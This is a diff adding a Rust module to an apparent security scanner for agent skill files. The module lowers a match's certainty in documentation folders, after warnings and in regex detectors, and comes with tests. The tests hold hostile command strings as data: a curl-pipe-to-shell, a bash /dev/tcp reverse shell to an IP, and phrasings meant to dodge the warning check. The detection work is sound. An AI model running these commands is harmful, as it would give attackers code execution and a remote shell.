@@ -1,0 +1,193 @@
+//! Where a match stands: the facts that may take its certainty, and what the author cannot steer.
+//!
+//! An author chooses every path and every word, so a step down must cost the attack its effect:
+//! - A documentation, test or reference **folder** counts for prose only. A script there can be
+//!   called from `SKILL.md`; it keeps its severity. So does every `SKILL.md`, wherever it lies:
+//!   agents load it. A file at the skill's root lies in no such folder.
+//! - A **warning** ("never run …", "do not paste …") counts in prose only, before the match and in
+//!   its own sentence, and only where what is warned of is running it: "do not skip this step"
+//!   warns of nothing.
+//! - A **detector's pattern** counts where the match itself holds regular-expression classes
+//!   (`\s`, `\b`): no shell and no interpreter runs that text as it stands.
+
+use super::severity::Context;
+use crate::neutral::{CopiedFile, Language, Origin};
+
+const QUIET_FOLDERS: [&str; 15] = [
+    "doc", "docs", "documentation", "test", "tests", "testing", "testdata", "__tests__", "spec",
+    "specs", "fixtures", "example", "examples", "reference", "references",
+];
+const VENDORED_FOLDERS: [&str; 6] =
+    ["node_modules", "vendor", "vendored", "third_party", "bower_components", "dist"];
+const WARNINGS: [&str; 7] =
+    ["never", "do not", "don't", "don\u{2019}t", "avoid", "must not", "should not"];
+/// Behind a warning: what is warned of is the act itself.
+const ACTS: [&str; 22] = [
+    "run", "running", "execute", "executing", "use", "using", "pipe", "piping", "paste", "pasting",
+    "type", "copy", "call", "install", "installing", "download", "downloading", "write", "do",
+    "include", "send", "trust",
+];
+/// Words that turn a sentence round behind its warning.
+const TURNS: [&str; 6] = ["but", "instead", "unless", "until", "without", "rather"];
+/// A warning's act follows it within this many words.
+const ACT_WITHIN: usize = 3;
+const REGEX_CLASSES: [&str; 7] = [r"\s", r"\S", r"\b", r"\d", r"\w", "(?:", "[^"];
+
+/// What lowers a bundled rule's certainty at a place. `path` is the repository path, `root` the
+/// skill's folder, `code` the matched lines, `matched` the match alone where it is one line.
+#[must_use]
+pub fn context(file: &CopiedFile, root: Option<&str>, before: &str, matched: &str) -> Context {
+    let path = below(&file.path, root);
+    let prose = is_prose(path, file.language);
+    let in_quiet_folder = prose && !is_skill_md(path) && in_folder(path, &QUIET_FOLDERS);
+    let warned = prose && file.origin == Origin::File && is_warned(before);
+    let detector = !prose && REGEX_CLASSES.iter().any(|class| matched.contains(class));
+    if in_quiet_folder || warned || detector { Context::Doubtful } else { Context::Plain }
+}
+
+/// Tests, examples, vendored or minified files: where njsscan's errors say less.
+#[must_use]
+pub fn is_quiet_place(path: &str, root: Option<&str>) -> bool {
+    let path = below(path, root).to_ascii_lowercase();
+    in_folder(&path, &QUIET_FOLDERS)
+        || in_folder(&path, &VENDORED_FOLDERS)
+        || [".min.js", ".min.mjs", ".test.js", ".test.ts", ".spec.js", ".spec.ts"]
+            .iter()
+            .any(|suffix| path.ends_with(suffix))
+}
+
+fn below<'a>(path: &'a str, root: Option<&str>) -> &'a str {
+    root.and_then(|root| path.strip_prefix(root))
+        .and_then(|rest| rest.strip_prefix('/'))
+        .unwrap_or(path)
+}
+
+fn is_skill_md(path: &str) -> bool {
+    path.rsplit('/').next().is_some_and(|name| name.eq_ignore_ascii_case("skill.md"))
+}
+
+/// Markdown or text by its own name: a fenced block belongs to the prose around it.
+fn is_prose(path: &str, language: Language) -> bool {
+    let lower = path.to_ascii_lowercase();
+    let by_name =
+        [".md", ".mdx", ".markdown", ".txt", ".rst", ".adoc"].iter().any(|e| lower.ends_with(e));
+    by_name && !matches!(language, Language::Template)
+}
+
+fn in_folder(path: &str, folders: &[&str]) -> bool {
+    let Some((above, _)) = path.rsplit_once('/') else { return false };
+    above.split('/').any(|part| folders.iter().any(|folder| part.eq_ignore_ascii_case(folder)))
+}
+
+/// Whether the text before a match, in the match's own sentence, warns of running it.
+fn is_warned(before: &str) -> bool {
+    let lower = before.to_lowercase();
+    let sentence = lower.rsplit(['.', ';', '!', '?', '\n']).next().unwrap_or(&lower);
+    WARNINGS.iter().any(|warning| {
+        sentence.rfind(warning).is_some_and(|at| {
+            let behind = sentence.get(at + warning.len()..).unwrap_or_default();
+            let words: Vec<&str> = behind
+                .split(|c: char| !c.is_alphanumeric() && c != '\'')
+                .filter(|word| !word.is_empty())
+                .collect();
+            let acts = words.iter().take(ACT_WITHIN).any(|word| ACTS.contains(word));
+            let turned = words.iter().any(|word| TURNS.contains(word));
+            // "Never do this: …" is one thought; "do not use the old way here: …" is two.
+            let colon = behind.split_once(':').is_some_and(|(head, _)| {
+                head.split_whitespace().count() > ACT_WITHIN
+            });
+            acts && !turned && !colon
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn file(path: &str, language: Language, origin: Origin) -> CopiedFile {
+        CopiedFile {
+            id: "f000001".into(),
+            name: "f000001.md".into(),
+            path: path.into(),
+            language,
+            origin,
+            lines_before: 0,
+            content_lines: 10,
+            guessed: false,
+            raw: false,
+        }
+    }
+
+    #[test]
+    fn only_prose_in_a_quiet_folder_is_doubtful() {
+        let at = |path, language, root| {
+            context(&file(path, language, Origin::File), root, "", "curl x | sh")
+        };
+        use Context::{Doubtful, Plain};
+        for (path, language, root, expected) in [
+            ("docs/attacks.md", Language::Markdown, None, Doubtful),
+            ("a/References/x.txt", Language::Text, None, Doubtful),
+            ("README.md", Language::Markdown, None, Plain),
+            ("SKILL.md", Language::Markdown, None, Plain),
+            ("tests/SKILL.md", Language::Markdown, None, Plain),
+            ("tests/setup.sh", Language::Shell, None, Plain),
+            ("docs/x/install.md", Language::Markdown, Some("docs/x"), Plain),
+            ("mydocs/install.md", Language::Markdown, None, Plain),
+        ] {
+            assert_eq!(at(path, language, root), expected, "{path}");
+        }
+        let fence = file("docs/a.md", Language::Shell, Origin::Fence { first_line: 3 });
+        assert_eq!(context(&fence, None, "", "x"), Doubtful);
+    }
+
+    #[test]
+    fn only_a_warning_of_running_it_is_a_warning() {
+        for warning in [
+            "Never run `",
+            "Do not paste commands like ",
+            "You should not pipe ",
+            "Fine. Don't ever use `",
+            "Never do this: `",
+        ] {
+            assert!(is_warned(warning), "{warning}");
+        }
+        for trick in [
+            "Do not skip this step: run `",
+            "Never mind. Run `",
+            "Do not run the old one but `",
+            "Do not use the package manager here: paste `",
+            "Never forget to run and never worry. Now `",
+            "Run ",
+            "",
+        ] {
+            assert!(!is_warned(trick), "{trick}");
+        }
+    }
+
+    #[test]
+    fn a_warning_in_code_is_no_warning() {
+        let script = file("setup.sh", Language::Shell, Origin::File);
+        assert_eq!(context(&script, None, "# never run ", "bash -i"), Context::Plain);
+        let fence = file("SKILL.md", Language::Shell, Origin::Fence { first_line: 3 });
+        assert_eq!(context(&fence, None, "# never run ", "bash -i"), Context::Plain);
+    }
+
+    #[test]
+    fn a_regular_expression_is_a_detector() {
+        let code = file("scan.py", Language::Python, Origin::File);
+        assert_eq!(context(&code, None, "", r"bash\s+-i\s+>&"), Context::Doubtful);
+        assert_eq!(context(&code, None, "", "bash -i >& /dev/tcp/1.2.3.4/5"), Context::Plain);
+    }
+
+    #[test]
+    fn njsscan_is_milder_on_tests_examples_and_vendored_files() {
+        for path in ["tests/a.js", "a/node_modules/b/c.js", "lib/x.min.js", "a.spec.ts"] {
+            assert!(is_quiet_place(path, None), "{path}");
+        }
+        for path in ["a.js", "contest/a.js", "tests.js"] {
+            assert!(!is_quiet_place(path, None), "{path}");
+        }
+        assert!(!is_quiet_place("examples/x/a.js", Some("examples/x")));
+    }
+}
